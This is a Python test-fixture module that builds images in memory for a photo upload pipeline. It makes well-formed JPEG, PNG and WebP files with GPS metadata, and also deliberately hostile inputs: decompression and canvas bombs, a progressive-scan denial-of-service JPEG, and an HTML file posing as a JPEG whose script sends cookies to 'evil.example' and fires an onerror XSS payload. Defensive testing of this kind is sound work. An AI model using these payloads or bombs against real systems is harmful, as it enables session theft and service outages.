"""Test images generated in memory, for the photo pipeline and whatever else needs a photo.

Everything here depends on Pillow and the standard library only, writes nothing to disk and is
deterministic: the same call returns the same bytes. The expensive generators are cached (bytes
are immutable, so sharing them is safe).

Well-formed inputs: `jpeg_with_gps`, `png_bytes`, `webp_bytes`, `realistic_photo_jpeg`.
Nasty inputs: `decompression_bomb_png`, `huge_dimensions_jpeg`, `webp_canvas_bomb`,
`truncated_jpeg`, `wrong_magic_bytes`, `png_magic_with_jpeg_body`, `html_disguised_as_jpeg`,
`gif_bytes`, `heic_header_bytes`, `jpeg_with_many_scans`.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zlib

from PIL import ExifTags, Image, ImageDraw, ImageFilter

__all__ = [
    "JAKARTA",
    "decompression_bomb_png",
    "encode",
    "gif_bytes",
    "gps_exif",
    "heic_header_bytes",
    "html_disguised_as_jpeg",
    "huge_dimensions_jpeg",
    "jpeg_bytes",
    "jpeg_with_gps",
    "jpeg_with_many_scans",
    "orientation_pattern",
    "png_bytes",
    "png_magic_with_jpeg_body",
    "realistic_photo_jpeg",
    "truncated_jpeg",
    "webp_bytes",
    "webp_canvas_bomb",
    "wrong_magic_bytes",
]

#: Monas, central Jakarta (lat, lon).
JAKARTA = (-6.175392, 106.827153)

#: An XMP packet that repeats the location, as phone cameras do.
_XMP_TEMPLATE = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    'xmlns:tiff="http://ns.adobe.com/tiff/1.0/" '
    'exif:GPSLatitude="{lat}" exif:GPSLongitude="{lon}" tiff:Make="{make}"/>'
    '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


# --------------------------------------------------------------------------------------------
# building blocks


def orientation_pattern(size: tuple[int, int]) -> Image.Image:
    """An RGB image whose corners all differ, so any rotation or flip is visible.

    Top-left quadrant red, top-right green, bottom-left blue, bottom-right white (as stored,
    before any EXIF orientation is applied).
    """
    w, h = size
    im = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(im)
    draw.rectangle((0, 0, w // 2 - 1, h // 2 - 1), fill=(255, 0, 0))
    draw.rectangle((w // 2, 0, w - 1, h // 2 - 1), fill=(0, 255, 0))
    draw.rectangle((0, h // 2, w // 2 - 1, h - 1), fill=(0, 0, 255))
    return im


def gps_exif(
    lat: float,
    lon: float,
    *,
    orientation: int | None = None,
    make: str = "JakLaporTestCam",
    model: str = "Model X-1",
    taken: str = "2024:05:01 08:30:00",
) -> Image.Exif:
    """EXIF as a phone writes it: Make/Model, DateTimeOriginal, GPSInfo, maybe Orientation."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = make
    exif[ExifTags.Base.Model] = model
    exif[ExifTags.Base.Software] = "photo_fixtures"
    exif[ExifTags.Base.DateTime] = taken
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    exif_ifd = exif.get_ifd(ExifTags.IFD.Exif)
    exif_ifd[ExifTags.Base.DateTimeOriginal] = taken
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSVersionID] = b"\x02\x03\x00\x00"
    gps[ExifTags.GPS.GPSLatitudeRef] = "S" if lat < 0 else "N"
    gps[ExifTags.GPS.GPSLatitude] = _dms(lat)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W" if lon < 0 else "E"
    gps[ExifTags.GPS.GPSLongitude] = _dms(lon)
    gps[ExifTags.GPS.GPSAltitudeRef] = b"\x00"
    gps[ExifTags.GPS.GPSAltitude] = 12.5
    return exif


def _dms(value: float) -> tuple[float, float, float]:
    value = abs(value)
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = round((value - degrees - minutes / 60) * 3600, 4)
    return float(degrees), float(minutes), seconds


def _xmp(lat: float, lon: float) -> bytes:
    return _XMP_TEMPLATE.format(lat=lat, lon=lon, make="JakLaporTestCam").encode()


def _srgb_icc() -> bytes:
    from PIL import ImageCms  # LittleCMS ships in every Pillow wheel

    icc = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    icc[24:36] = struct.pack(">6H", 2024, 5, 1, 8, 30, 0)  # fixed creation date: same bytes
    return bytes(icc)


def encode(im: Image.Image, fmt: str, **params) -> bytes:
    """`im` saved as `fmt` (a Pillow format name) into bytes."""
    buf = io.BytesIO()
    im.save(buf, fmt, **params)
    return buf.getvalue()


def jpeg_bytes(size: tuple[int, int] = (64, 48), *, mode: str = "RGB", **save_params) -> bytes:
    """A plain JPEG of `orientation_pattern` (mode RGB, L or CMYK), no metadata."""
    im = orientation_pattern(size)
    if mode != "RGB":
        im = im.convert(mode)
    save_params.setdefault("quality", 90)
    return encode(im, "JPEG", **save_params)


# --------------------------------------------------------------------------------------------
# well-formed inputs


def jpeg_with_gps(
    lat: float,
    lon: float,
    size: tuple[int, int] = (800, 600),
    orientation: int | None = None,
    *,
    all_metadata: bool = False,
) -> bytes:
    """A real JPEG carrying EXIF GPSInfo (lat, lon), Make/Model, DateTimeOriginal.

    `orientation` adds the EXIF Orientation tag (1-8); the pixels are stored un-rotated, as a
    phone stores them. `all_metadata` also embeds an XMP packet repeating the location, an sRGB
    ICC profile and a JPEG comment, so a test can check that every kind of metadata goes away.
    """
    params: dict[str, object] = {
        "exif": gps_exif(lat, lon, orientation=orientation),
        "quality": 90,
    }
    if all_metadata:
        params["xmp"] = _xmp(lat, lon)
        params["icc_profile"] = _srgb_icc()
        params["comment"] = b"taken at Monas by reporter 0812-3456-7890"
    return encode(orientation_pattern(size), "JPEG", **params)


def png_bytes(
    size: tuple[int, int] = (320, 240),
    mode: str = "RGBA",
    *,
    gps: tuple[float, float] | None = None,
) -> bytes:
    """A PNG in `mode` (RGBA, RGB, LA, L, P, 1 or I;16).

    RGBA/LA have a half-transparent left half and a fully transparent bottom-right corner;
    P has a transparent palette index (the white quadrant, via tRNS). I;16 is a 16-bit grey
    ramp. `gps` adds an eXIf chunk with the location and a tEXt comment.
    """
    base = orientation_pattern(size)
    w, h = size
    if mode == "I;16":
        ramp = Image.linear_gradient("L").resize(size)  # 0..255 top to bottom
        im = ramp.point(lambda v: v * 257, "I").convert("I;16")
    elif mode in ("RGBA", "LA"):
        alpha = Image.new("L", size, 255)
        draw = ImageDraw.Draw(alpha)
        draw.rectangle((0, 0, w // 2 - 1, h - 1), fill=128)
        draw.rectangle((w // 2, h // 2, w - 1, h - 1), fill=0)
        rgba = base.copy()
        rgba.putalpha(alpha)
        im = rgba if mode == "RGBA" else rgba.convert("LA")
    elif mode == "P":
        im = base.convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
        im.info["transparency"] = im.getpixel((w - 1, h - 1))  # the white quadrant
    else:
        im = base.convert(mode)
    params: dict[str, object] = {}
    if gps is not None:
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", f"reporter phone 0812-3456-7890 at {gps[0]},{gps[1]}")
        params["pnginfo"] = info
        params["exif"] = gps_exif(*gps)
    return encode(im, "PNG", **params)


def webp_bytes(
    size: tuple[int, int] = (320, 240),
    *,
    frames: int = 1,
    alpha: bool = False,
    lossless: bool = False,
    gps: tuple[float, float] | None = None,
) -> bytes:
    """A WebP of `orientation_pattern`; `frames` > 1 makes an animation whose later frames are
    solid magenta (so a test can tell the first frame was used). `gps` adds EXIF and XMP chunks.
    """
    first = orientation_pattern(size)
    if alpha:
        first.putalpha(Image.linear_gradient("L").rotate(90).resize(size))
    rest = [Image.new(first.mode, size, (255, 0, 255, 255)[: len(first.mode)])] * (frames - 1)
    params: dict[str, object] = {"quality": 90, "lossless": lossless}
    if rest:
        params.update(save_all=True, append_images=rest, duration=100, loop=0)
    if gps is not None:
        params["exif"] = gps_exif(*gps)
        params["xmp"] = _xmp(*gps)
    return encode(first, "WEBP", **params)


@functools.lru_cache(maxsize=16)
def realistic_photo_jpeg(target_kb: int = 200, seed: int = 0, size: tuple[int, int] = (1600, 1200)) -> bytes:
    """A photo-like JPEG (gradients, shapes, grain) of about `target_kb` KB, fixed by `seed`.

    The JPEG quality is searched so the file lands near the target (within about 25 % for the
    default size; a target that `size` cannot reach at quality 5-95 gives the nearest possible).
    """
    rng = random.Random(seed)
    w, h = size
    sky = Image.linear_gradient("L").resize(size)
    glow = Image.radial_gradient("L").resize(size)
    tilt = Image.linear_gradient("L").rotate(rng.choice((90, 270))).resize(size)
    im = Image.merge("RGB", (tilt, glow, sky))
    draw = ImageDraw.Draw(im)
    for _ in range(60):
        x0, y0 = rng.randrange(w), rng.randrange(h)
        x1, y1 = x0 + rng.randrange(20, w // 3), y0 + rng.randrange(20, h // 3)
        color = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        if rng.random() < 0.5:
            draw.ellipse((x0, y0, x1, y1), fill=color)
        else:
            draw.rectangle((x0, y0, x1, y1), fill=color)
    im = im.filter(ImageFilter.GaussianBlur(2))
    grain = Image.frombytes("RGB", size, rng.randbytes(w * h * 3))
    grain = grain.filter(ImageFilter.GaussianBlur(0.6))
    im = Image.blend(im, grain, 0.18)

    target = target_kb * 1024
    lo, hi = 5, 95
    best = encode(im, "JPEG", quality=75)
    while lo <= hi:
        quality = (lo + hi) // 2
        data = encode(im, "JPEG", quality=quality)
        if abs(len(data) - target) < abs(len(best) - target):
            best = data
        if len(data) > target:
            hi = quality - 1
        else:
            lo = quality + 1
    return best


# --------------------------------------------------------------------------------------------
# nasty inputs


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


@functools.lru_cache(maxsize=4)
def decompression_bomb_png(size: tuple[int, int] = (30000, 30000)) -> bytes:
    """A valid 1-bit greyscale PNG of `size` zero pixels: ~110 KB on disk for 30000x30000
    (900 megapixels, 112 MB of raw rows, more once decoded to 8 bits per pixel).
    """
    w, h = size
    row = b"\x00" * (1 + (w + 7) // 8)  # filter type 0 + packed bits
    compressor = zlib.compressobj(9, zlib.DEFLATED, 15, 9, zlib.Z_RLE)
    rows_per_block = 1000
    block = row * rows_per_block
    parts = [compressor.compress(block) for _ in range(h // rows_per_block)]
    parts.append(compressor.compress(row * (h % rows_per_block)))
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def huge_dimensions_jpeg(size: tuple[int, int] = (20000, 20000)) -> bytes:
    """A tiny JPEG whose frame header (SOF) claims `size`; its scan data is for 16x16 only."""
    data = bytearray(jpeg_bytes((16, 16)))
    i = 2
    while i + 4 <= len(data):
        if data[i] != 0xFF:
            raise AssertionError("unexpected JPEG layout")
        marker = data[i + 1]
        length = struct.unpack(">H", data[i + 2 : i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            # segment: FF Cx, length, precision, height, width
            struct.pack_into(">HH", data, i + 5, size[1], size[0])
            return bytes(data)
        i += 2 + length
    raise AssertionError("no SOF marker found")


def webp_canvas_bomb(size: tuple[int, int] = (9000, 9000)) -> bytes:
    """A ~140-byte animated WebP whose canvas is `size` (max 16384 per side) with one 16x16 frame.

    libwebp reserves the whole canvas when the file is opened and fills it when the first frame is
    decoded: 9000x9000 costs over 1 GB and seconds, below Pillow's own bomb threshold.
    """
    frames = [Image.new("RGB", (16, 16), c) for c in ("red", "blue")]
    data = bytearray(encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True))
    if data[12:16] != b"VP8X":
        raise AssertionError("expected an extended (VP8X) WebP")
    data[24:27] = (size[0] - 1).to_bytes(3, "little")
    data[27:30] = (size[1] - 1).to_bytes(3, "little")
    return bytes(data)


def truncated_jpeg(keep: float = 0.5) -> bytes:
    """A real photo-like JPEG cut off after `keep` of its bytes (mid-scan by default)."""
    data = realistic_photo_jpeg(target_kb=60, seed=1, size=(640, 480))
    return data[: int(len(data) * keep)]


def wrong_magic_bytes() -> bytes:
    """A JPEG body whose signature (SOI marker and APP0 start) was overwritten with zeros:
    no known file type begins like this.
    """
    data = jpeg_bytes((64, 48))
    return b"\x00\x00\x00\x00" + data[4:]


def png_magic_with_jpeg_body() -> bytes:
    """The PNG signature glued onto a JPEG body: claims to be a PNG, cannot be read as one."""
    return b"\x89PNG\r\n\x1a\n" + jpeg_bytes((64, 48))[2:]


def html_disguised_as_jpeg() -> bytes:
    """What an attacker uploads as `photo.jpg` with Content-Type image/jpeg."""
    return (
        b"<!DOCTYPE html>\n<html><head><title>photo.jpg</title></head>\n"
        b"<body><script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
        b"<img src=x onerror=alert(1)></body></html>\n"
    )


def gif_bytes(size: tuple[int, int] = (64, 48), frames: int = 2) -> bytes:
    """A real (animated when frames > 1) GIF."""
    images = [orientation_pattern(size).convert("P")]
    images += [Image.new("P", size, i) for i in range(1, frames)]
    return encode(images[0], "GIF", save_all=frames > 1, append_images=images[1:], duration=100)


def heic_header_bytes() -> bytes:
    """The start of an iPhone HEIC file (ISO-BMFF `ftyp` box, brand heic) and filler."""
    ftyp = b"ftyp" + b"heic" + b"\x00\x00\x00\x00" + b"mif1heicmiaf"
    return struct.pack(">I", 4 + len(ftyp)) + ftyp + b"\x00" * 200


def jpeg_with_many_scans(scans: int = 2000) -> bytes:
    """A progressive JPEG with its last scan repeated until it has `scans` scans.

    Each extra scan makes a decoder walk the coefficient buffer again: the shape of the
    "progressive scan" denial of service (tiny file, decoding time grows with the scan count).
    """
    data = encode(orientation_pattern((256, 256)), "JPEG", quality=90, progressive=True)
    last_sos = data.rfind(b"\xff\xda")
    eoi = data.rfind(b"\xff\xd9")
    head, last_scan = data[:last_sos], data[last_sos:eoi]
    existing = data.count(b"\xff\xda")
    return head + last_scan * max(1, scans - existing + 1) + b"\xff\xd9"
